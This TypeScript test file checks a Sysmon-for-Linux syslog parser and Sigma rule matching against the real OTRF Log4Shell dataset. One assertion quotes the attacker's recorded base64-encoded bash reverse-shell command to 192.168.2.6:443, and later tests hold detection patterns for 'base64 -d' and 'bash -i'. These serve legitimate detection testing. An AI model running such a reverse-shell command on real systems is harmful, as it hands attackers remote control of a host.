/**
 * Sysmon for Linux over syslog, raw and in Azure Syslog JSON, on the real OTRF Log4Shell file.
 * Expected counts were taken independently with python3 over the JSON lines:
 *   re.search(r'<EventID>(\d+)</EventID>', json.loads(line)['SyslogMessage'])
 * → EventID 5: 50, 1: 31, 3: 6, 11: 4, 23: 2 (93 records), as MANIFEST.md says.
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/events/event.js';
import { RuleIndex, loadRulesFromText } from '../../../src/sigma/index.js';
import { otrfReader } from '../../../src/sources/otrf.js';
import { sniffFormat } from '../../../src/sources/open.js';
import { sysmonLinuxSyslogReader } from '../../../src/sources/sysmon-linux-syslog.js';
import { requireShared, runCli } from '../../helpers/cli.js';
import { readWith, withoutSource } from '../helpers.js';

const FILE = 'corpus/real/OTRF__Security-Datasets/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json';
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** The Azure rows rewritten as the syslog lines Sysmon for Linux wrote (BSD format, rsyslog's default file layout). */
function asSyslogLines(json: string): string {
  return json
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => {
      const row = JSON.parse(l) as { EventTime: string; HostName: string; SyslogMessage: string };
      const t = new Date(row.EventTime);
      const stamp = `${MONTHS[t.getUTCMonth()]} ${String(t.getUTCDate()).padStart(2, ' ')} ${t.toISOString().slice(11, 19)}`;
      return `${stamp} ${row.HostName} sysmon[1590]: ${row.SyslogMessage}`;
    })
    .join('\n');
}

const count = (events: NormalizedEvent[], key: (e: NormalizedEvent) => unknown) => {
  const out: Record<string, number> = {};
  for (const e of events) out[String(key(e))] = (out[String(key(e))] ?? 0) + 1;
  return out;
};

describe('Sysmon for Linux via syslog (real OTRF Log4Shell data)', () => {
  it('Azure Syslog JSON (otrf) and raw syslog lines give the same 93 Sysmon events', async () => {
    const json = readFileSync(requireShared(FILE), 'utf8');
    const azure = await readWith(otrfReader, Readable.from([json]));
    const lines = asSyslogLines(json);
    expect(sniffFormat(lines.slice(0, 65536))?.format).toBe('sysmon-linux-syslog');
    const raw = await readWith(sysmonLinuxSyslogReader, Readable.from([lines]));
    for (const { events, bad } of [azure, raw]) {
      expect(bad).toEqual([]);
      expect(events).toHaveLength(93);
      expect(count(events, (e) => e.fields.EventID)).toEqual({ '5': 50, '1': 31, '3': 6, '11': 4, '23': 2 });
      expect(count(events, (e) => e.category)).toEqual({ process_termination: 50, process_creation: 31, network_connection: 6, file_event: 4, file_delete: 2 });
      expect(events.every((e) => e.product === 'linux' && e.service === 'sysmon' && e.host === 'UBUNTU5' && e.time !== undefined)).toBe(true);
    }
    // The XML is the event; only the wrapper's own columns differ.
    const strip = (events: NormalizedEvent[]) =>
      withoutSource(events).map((e) => ({ ...e, fields: Object.fromEntries(Object.entries(e.fields).filter(([k]) => !/^(Syslog|TenantId|SourceSystem|TimeGenerated|EventTime|Facility|HostName|SeverityLevel|HostIP|ProcessName|MG|Type|_ResourceId|Computer$)/.test(k))) }));
    expect(strip(raw.events)).toEqual(strip(azure.events));
    expect(raw.events[0]!.fields).toMatchObject({ SyslogHost: 'UBUNTU5', SyslogProgram: 'sysmon', SyslogPid: '1590' });
  });

  it('java → /bin/bash with the base64 pipeline: Linux values, a cut-short syslog message still read', async () => {
    const { events } = await readWith(otrfReader, Readable.from([readFileSync(requireShared(FILE), 'utf8')]));
    const bash = events.find((e) => String(e.fields.CommandLine).includes('{base64,-d}'))!;
    expect(bash).toMatchObject({ category: 'process_creation', product: 'linux', user: 'tomcat', source: { line: 8 } });
    expect(bash.fields).toMatchObject({
      Image: '/bin/bash',
      ParentImage: '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java',
      CommandLine: 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}',
      // Azure cut this SyslogMessage at 2012 characters, inside ParentCommandLine.
      EventXmlTruncated: true,
    });
    expect(bash.time).toBe(Date.UTC(2022, 4, 11, 18, 10, 22, 3));
    expect(events.filter((e) => e.fields.User === 'root').length).toBeGreaterThan(0);
  });

  it("the seed gives no alert (java is not a package manager), a rule on 'base64,-d' does", async () => {
    const path = requireShared(FILE);
    const seed = await runCli(['scan', path, '--rules', 'seed', '--format', 'csv', '-q']);
    expect(seed.status).toBe(0);
    expect(seed.stdout.split('\r\n').filter(Boolean)).toHaveLength(1); // the header only
    const { events } = await readWith(otrfReader, Readable.from([readFileSync(path, 'utf8')]));
    const { rules, rejected } = loadRulesFromText(
      `title: bash base64 pipeline\nid: 0f0e0d0c-0b0a-4909-8807-060504030201\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: 'base64,-d'\n  condition: sel\n`,
      'inline.yml',
    );
    expect(rejected).toEqual([]);
    const index = new RuleIndex(rules);
    const hits = events.filter((e) => index.match(e).length > 0);
    expect(hits.map((e) => [e.source.line, e.fields.Image, e.fields.ParentImage])).toEqual([[8, '/bin/bash', '/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java']]);
    // What arm 1's own patterns see in the same file: 'base64 -d' and 'bash -i' are in the children bash spawns, with bash as parent.
    const armPatterns = events.filter((e) => e.category === 'process_creation' && /base64 -d|bash -i/i.test(String(e.fields.CommandLine)));
    // Checked with python3 (EventID 1 whose CommandLine matches 'base64 -d|bash -i'): lines 10, 11 and 39.
    expect(armPatterns.map((e) => [e.source.line, e.fields.CommandLine, e.fields.ParentImage])).toEqual([
      [10, 'bash -i', '/bin/bash'],
      [11, 'base64 -d', '/bin/bash'],
      [39, 'bash -i', '/bin/bash'],
    ]);
  });

  it('other programs become syslog events, non-syslog lines and broken Sysmon XML are bad records', async () => {
    const text = [
      'May 11 18:10:20 UBUNTU5 systemd[1]: Started Session 3 of user root.',
      'this is not syslog',
      'May 11 18:10:21 UBUNTU5 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System><EventData><Data Name="Image">/usr/bin/curl</Data></Event>',
      '2022-05-11T18:10:22.100000+00:00 UBUNTU5 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>3</EventID><Channel>Linux-Sysmon/Operational</Channel><TimeCreated SystemTime="2022-05-11T18:10:22.1Z"/></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="User">root</Data><Data Name="DestinationPort">443</Data></EventData></Event>',
    ].join('\n');
    const { events, bad } = await readWith(sysmonLinuxSyslogReader, Readable.from([text]), 'syslog');
    expect(bad.map((b) => [b.line, b.reason.replace(/:.*/, '')])).toEqual([[2, 'not a syslog line (expected "Mmm dd HH'], [3, 'invalid XML']]);
    expect(events.map((e) => [e.source.line, e.product, e.service, e.category, e.user, e.fields.Image ?? e.fields.SyslogMessage])).toEqual([
      [1, 'linux', 'syslog', undefined, undefined, 'Started Session 3 of user root.'],
      [4, 'linux', 'sysmon', 'network_connection', 'root', '/usr/bin/curl'],
    ]);
    expect(events[0]!.time).toBeUndefined(); // a BSD stamp has no year
  });
});
